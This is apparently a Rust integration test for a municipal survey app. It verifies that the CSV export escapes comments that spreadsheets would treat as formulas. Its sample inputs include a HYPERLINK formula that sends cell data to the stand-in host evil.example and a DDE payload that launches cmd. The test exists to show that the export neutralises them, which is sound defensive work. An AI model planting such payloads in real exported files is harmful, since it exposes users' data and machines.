//! Open data as CSV: cells a municipality typed cannot become spreadsheet formulas (finding 11
//! of issue 19).

use radhus_maturity::domain::Level;
use radhus_maturity::service::{self, AnswerInput};

#[tokio::test]
async fn csv_export_neutralises_formula_cells() {
    let app = super::app().await;
    let (_, s, _) = super::setup(&app, "kil", "1715").await;
    let id = service::start(&app.db, &s, 2018, Some("2017"), app.now()).await.expect("start");
    super::answer_all(&app, &s, id, |_| Level::Partly).await;
    let hyperlink = r#"=HYPERLINK("https://evil.example/?d="&A1,"Klicka här")"#;
    let comments = [hyperlink, "+46 70 123 45 67", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "-3", "Vanlig kommentar"];
    let inputs: Vec<AnswerInput> = comments
        .iter()
        .enumerate()
        .map(|(n, c)| AnswerInput {
            indicator_id: format!("EB17-{:02}", n + 1),
            level: "2".into(),
            comment: (*c).to_string(),
            planned_action: hyperlink.to_string(),
            ..Default::default()
        })
        .collect();
    service::save_area(&app.db, &s, id, "aldre", &inputs, app.now()).await.expect("save");
    service::submit(&app.db, &s, id, app.now()).await.expect("submit");
    service::set_public(&app.db, &s, id, true, app.now()).await.expect("publish");

    let csv = app.client("kil.localhost").get("/api/v1/maturity/results.csv?year=2018").await;
    assert_eq!(csv.status, 200);
    let mut r = csv::ReaderBuilder::new().from_reader(csv.body.as_bytes());
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.expect("record")).collect();
    let comment = |n: usize| rows[n].get(7).expect("kommentar").to_string();
    assert_eq!(comment(0), format!("'{hyperlink}"), "the formula comes out as text");
    assert_eq!(comment(1), "'+46 70 123 45 67");
    assert_eq!(comment(2), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(comment(3), "'-2+3");
    assert_eq!(comment(4), "-3", "a plain number stays a number");
    assert_eq!(comment(5), "Vanlig kommentar");
    for row in &rows {
        for cell in row {
            let formula = cell.starts_with(['=', '+', '@', '\t', '\r']) || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!formula, "a cell that a spreadsheet would evaluate: {cell:?}");
        }
    }
    // The JSON carries the text as typed: the neutralising belongs to CSV only.
    let json = app.client("kil.localhost").get("/api/v1/maturity/results?year=2018").await.json();
    assert_eq!(json["answers"][0]["comment"], hyperlink);
}
